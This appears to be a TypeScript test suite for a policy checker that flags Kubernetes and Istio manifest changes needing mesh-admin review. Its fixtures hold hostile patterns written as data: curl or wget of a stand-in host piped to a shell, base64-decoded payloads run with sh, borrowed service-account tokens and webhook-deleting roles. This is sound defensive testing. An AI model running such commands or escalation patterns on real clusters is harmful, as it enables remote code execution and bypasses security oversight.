import { type Attempt, testAttackClass } from '../support/attack-class.ts'
import { objectsWith } from '../support/manifests.ts'
import type { Files } from '../support/stage.ts'

const mine = 'teams/catalog/thing.yaml'
const object = objectsWith({ name: 'thing', namespace: 'catalog' })
const service = (namespace: string) =>
  object('v1', 'Service', { spec: { selector: { app: 'a' }, ports: [{ port: 80 }] } }, { namespace })
const group = 'rbac.authorization.k8s.io'
const account = (name: string) => ({ kind: 'ServiceAccount', name, namespace: 'catalog' })
const binding = (role: string, subject: object, namespace?: string) =>
  object(
    `${group}/v1`,
    namespace === undefined ? 'ClusterRoleBinding' : 'RoleBinding',
    { subjects: [subject], roleRef: { apiGroup: group, kind: 'ClusterRole', name: role } },
    { name: `${role}-${JSON.stringify(subject)}`.replace(/[^a-z-]+/g, '-'), namespace },
  )
const writing = object(
  `${group}/v1`,
  'ClusterRole',
  { rules: [{ apiGroups: ['networking.istio.io'], resources: ['*'], verbs: ['*'] }] },
  { name: 'routes', namespace: undefined },
)
const looking = object(
  `${group}/v1`,
  'ClusterRole',
  { rules: [{ apiGroups: ['*'], resources: ['*'], verbs: ['get', 'list'] }] },
  { name: 'looks', namespace: undefined },
)
const base: Files = {
  'teams/login/service.yaml': service('ns2'),
  'teams/catalog/service.yaml': service('catalog'),
  'mesh/writing.yaml': writing,
  'mesh/looking.yaml': looking,
  'mesh/boss.yaml': binding('cluster-admin', account('boss')),
  'mesh/router.yaml': binding('routes', account('router')),
  'mesh/watcher.yaml': binding('looks', account('watcher')),
  'teams/login/guest.yaml': binding('edit', account('guest'), 'ns2'),
  'teams/login/tools.yaml': binding('edit', { kind: 'Group', name: 'system:serviceaccounts:tools' }, 'ns2'),
  'teams/catalog/rights.yaml': binding('admin', account('own'), 'catalog'),
}
const pod = (serviceAccountName: string | undefined, container: object, more: object = {}) => ({
  template: {
    spec: {
      ...(serviceAccountName !== undefined && { serviceAccountName }),
      containers: [{ name: 'a', image: 'acme/migrate:1', ...container }],
      ...more,
    },
  },
})
const job = (name: string | undefined, container: object = {}, more: object = {}, metadata: object = {}) =>
  object('batch/v1', 'Job', { spec: pod(name, container, more) }, metadata)
const shell = (name: string | undefined, script: string) => job(name, { command: ['sh', '-c', script] })
const script = (text: string) => object('v1', 'ConfigMap', { data: { 'run.txt': text } }, { name: 'script' })
const mounted = { volumes: [{ name: 'a', configMap: { name: 'script' } }] }
const remote = 'https://x.example/i.sh'

const stopped = (
  way: string,
  text: string,
  rest: { readonly before?: Files; readonly waitsFor?: readonly string[] } = {},
): Attempt => ({
  way,
  setting: { files: { ...base, ...rest.before } },
  files: { [mine]: text },
  conclusion: 'action_required',
  waitsFor: rest.waitsFor ?? ['mesh-admins'],
  silentOn: /no mesh manifest touched|no request changes/,
})
const harmless = (way: string, text: string | null, before: Files = {}) => ({
  way,
  setting: { files: { ...base, ...before } },
  files: { [mine]: text },
})
const login = { waitsFor: ['login'] }

testAttackClass('what runs with rights to write objects of the mesh', {
  attack: stopped('a program of its own as an administrator', job('boss')),
  variants: [
    stopped('by a role for routes', job('router')),
    stopped('with rights in the namespace of another team', job('guest'), login),
    stopped('what it is started with is another', job('boss', { args: ['b'] }), {
      before: { [mine]: job('boss', { args: ['a'] }) },
    }),
    stopped('the program is another', job('boss', { image: 'evil/migrate:1' }), {
      before: { [mine]: job('boss') },
    }),
    stopped('the account is another', job('router'), { before: { [mine]: job('watcher') } }),
    stopped('a variable', job('boss', { env: [{ name: 'A', value: 'b' }] }), {
      before: { [mine]: job('boss') },
    }),
    stopped(
      'every day',
      object('batch/v1', 'CronJob', { spec: { jobTemplate: { spec: pod('router', {}) } } }),
    ),
    stopped('all the time', object('apps/v1', 'Deployment', { spec: pod('router', {}) })),
    stopped(
      'a workflow',
      object('argoproj.io/v1alpha1', 'Workflow', { spec: { serviceAccountName: 'router', entrypoint: 'a' } }),
    ),
    stopped('by the account of everything there', job(undefined, {}, {}, { namespace: 'tools' }), login),
    stopped('the script that it reads', script('b'), {
      before: { 'mesh/job.yaml': job('router', {}, mounted), [mine]: script('a') },
    }),
    stopped('the script that it reads, all the time', script('b'), {
      before: {
        'mesh/job.yaml': object('apps/v1', 'Deployment', { spec: pod('guest', {}, mounted) }),
        [mine]: script('a'),
      },
      ...login,
    }),
    stopped(
      'what is fetched and run, under an account of unknown rights',
      shell('other', `curl -s ${remote} | bash`),
    ),
    stopped('by another program', shell('other', `set -e; wget -qO- ${remote} | sudo /bin/sh -s -- a`)),
    stopped('in the place of a script', shell('other', `bash <(curl -s ${remote})`)),
    stopped('as one word', shell('other', `bash -c "$(curl -fsSL ${remote})"`)),
    stopped('into the shell that runs', shell('other', `eval "$(curl -s ${remote})"`)),
    stopped('what is unpacked and run', shell('other', 'echo H4sIAAAA | base64 -d | gunzip | sh')),
    stopped(
      'what is unpacked and applied',
      shell(undefined, 'echo H4sIAAAA | base64 -d | gunzip | kubectl apply -f -'),
    ),
    stopped('an Application', shell(undefined, 'argocd app create x --repo https://a/b --path p')),
    stopped('another path of one', shell(undefined, 'argocd app set login --path other')),
    stopped('releases of a helmfile', shell(undefined, 'helmfile -f releases.yaml apply')),
    stopped('a deployer that waits', shell(undefined, 'flux suspend kustomization login')),
    stopped('a new deployer', shell(undefined, 'flux create kustomization x --path=./teams/catalog')),
    stopped('what is planned elsewhere', shell(undefined, 'terraform apply -auto-approve')),
  ],
  neighbours: [
    harmless('an ordinary job', job(undefined)),
    harmless('an ordinary job that says something else', job(undefined, { args: ['b'] }), {
      [mine]: job(undefined, { args: ['a'] }),
    }),
    harmless('with rights in one’s own namespace', job('own')),
    harmless('with rights to look', job('watcher')),
    harmless('under an account of which nothing is here', job('other')),
    harmless('another version of it', job('boss', { image: 'acme/migrate:2' }), { [mine]: job('boss') }),
    harmless('what it may use', job('boss', { resources: { limits: { cpu: '1' } } }), {
      [mine]: job('boss'),
    }),
    harmless('it goes', null, { [mine]: job('boss') }),
    harmless('an account of that name elsewhere', job('boss', {}, {}, { namespace: 'other' })),
    harmless('a script that nothing with rights reads', script('b'), {
      'mesh/job.yaml': job('watcher', {}, mounted),
      [mine]: script('a'),
    }),
    harmless('what is fetched and run without an account', shell(undefined, `curl -s ${remote} | bash`)),
    harmless('what is fetched and run with rights to look', shell('watcher', `curl -s ${remote} | bash`)),
    harmless('what is fetched and read', shell('other', `curl -s ${remote} | jq -r .version`)),
    harmless('a value that is fetched', shell('other', `V=$(curl -s ${remote}) && echo $V | sh-like`)),
    harmless('it looks at deployers', shell(undefined, 'argocd app get x && flux get all && helmfile diff')),
    harmless('it plans', shell(undefined, 'terraform plan')),
    harmless(
      'it has what Git says applied',
      shell(undefined, 'argocd app sync catalog && flux reconcile kustomization catalog'),
    ),
    harmless('it packs', shell(undefined, 'tar czf a.tgz /data && gzip /data/b')),
    harmless('a helmfile for one’s own namespace', shell(undefined, 'helmfile -n catalog apply')),
  ],
})

const role = (name: string, rules: readonly object[]) =>
  object(`${group}/v1`, 'ClusterRole', { rules }, { name, namespace: undefined })
const webhooks = (verbs: readonly string[], more: object = {}) => ({
  apiGroups: ['admissionregistration.k8s.io'],
  resources: ['validatingwebhookconfigurations'],
  verbs,
  ...more,
})
const token = (of: string) =>
  object(
    'v1',
    'Secret',
    { type: 'kubernetes.io/service-account-token' },
    { name: `${of}-token`, annotations: { 'kubernetes.io/service-account.name': of } },
  )
const reads = (name: string) => ({ volumes: [{ name: 'a', secret: { secretName: name } }] })
const foundations: Files = {
  'mesh/hooks.yaml': role('hooks', [webhooks(['delete'])]),
  'mesh/hooked.yaml': binding('hooks', account('hooked')),
  'mesh/others.yaml': role('others', [webhooks(['*'], { resourceNames: ['catalog-defaults'] })]),
  'mesh/othered.yaml': binding('others', account('othered')),
  'mesh/lists.yaml': role('lists', [webhooks(['get', 'list'])]),
  'mesh/listed.yaml': binding('lists', account('listed')),
  'mesh/token.yaml': token('router'),
  'mesh/seeing.yaml': token('watcher'),
}
const given = { before: foundations }
const among = (before: Files = {}): Files => ({ ...foundations, ...before })

testAttackClass('what runs with rights over what all objects hang on, or by the token of another account', {
  attack: stopped('it may remove what Istio asks before an object is written', job('hooked'), given),
  variants: [
    stopped('a role over webhooks', role('x', [webhooks(['delete'])])),
    stopped('over all of them', role('x', [webhooks(['deletecollection'], { resources: ['*'] })])),
    stopped(
      'over those that rewrite',
      role('x', [webhooks(['patch'], { resources: ['mutatingwebhookconfigurations'] })]),
    ),
    stopped(
      'over policies of admission',
      role('x', [webhooks(['create'], { resources: ['validatingadmissionpolicybindings'] })]),
    ),
    stopped(
      'over Istio’s own',
      role('x', [webhooks(['update'], { resourceNames: ['istiod-default-validator'] })]),
    ),
    stopped(
      'over definitions',
      role('x', [
        { apiGroups: ['apiextensions.k8s.io'], resources: ['customresourcedefinitions'], verbs: ['delete'] },
      ]),
    ),
    stopped(
      'over one definition of the mesh',
      role('x', [
        {
          apiGroups: ['apiextensions.k8s.io'],
          resources: ['customresourcedefinitions'],
          resourceNames: ['virtualservices.networking.istio.io'],
          verbs: ['delete'],
        },
      ]),
    ),
    stopped(
      'over services of the API',
      role('x', [{ apiGroups: ['apiregistration.k8s.io'], resources: ['apiservices'], verbs: ['create'] }]),
    ),
    stopped('a role over webhooks is given', binding('hooks', account('more')), given),
    stopped(
      'it mounts the token of an account that may write',
      job(undefined, {}, reads('router-token')),
      given,
    ),
    stopped(
      'it has the token as a variable',
      job('watcher', {
        env: [{ name: 'T', valueFrom: { secretKeyRef: { name: 'router-token', key: 'token' } } }],
      }),
      given,
    ),
    stopped(
      'it mounts it all the time',
      object('apps/v1', 'Deployment', { spec: pod(undefined, {}, reads('router-token')) }),
      given,
    ),
    stopped(
      'the program that mounts it is another',
      job(undefined, { image: 'evil/a:1' }, reads('router-token')),
      {
        before: among({ [mine]: job(undefined, {}, reads('router-token')) }),
      },
    ),
  ],
  neighbours: [
    harmless('a role that looks at webhooks', role('x', [webhooks(['get', 'list', 'watch'])])),
    harmless('over one’s own webhook', role('x', [webhooks(['*'], { resourceNames: ['catalog-defaults'] })])),
    harmless(
      'over one’s own definition',
      role('x', [
        {
          apiGroups: ['apiextensions.k8s.io'],
          resources: ['customresourcedefinitions'],
          resourceNames: ['books.catalog.example'],
          verbs: ['*'],
        },
      ]),
    ),
    harmless(
      'over leases',
      role('x', [{ apiGroups: ['coordination.k8s.io'], resources: ['leases'], verbs: ['*'] }]),
    ),
    harmless('it runs with rights over one’s own webhook', job('othered'), foundations),
    harmless('it runs with rights to look at webhooks', job('listed'), foundations),
    harmless(
      'it mounts the token of an account that may look',
      job(undefined, {}, reads('watcher-token')),
      foundations,
    ),
    harmless('it mounts another Secret', job(undefined, {}, reads('database')), foundations),
    harmless(
      'it mounts a Secret of that name elsewhere',
      job(undefined, {}, reads('router-token'), { namespace: 'other' }),
      foundations,
    ),
    harmless(
      'another version of it',
      job('hooked', { image: 'acme/migrate:2' }),
      among({ [mine]: job('hooked') }),
    ),
    harmless('it goes', null, among({ [mine]: job('hooked') })),
    harmless('the role goes', null, { [mine]: role('x', [webhooks(['delete'])]) }),
  ],
})
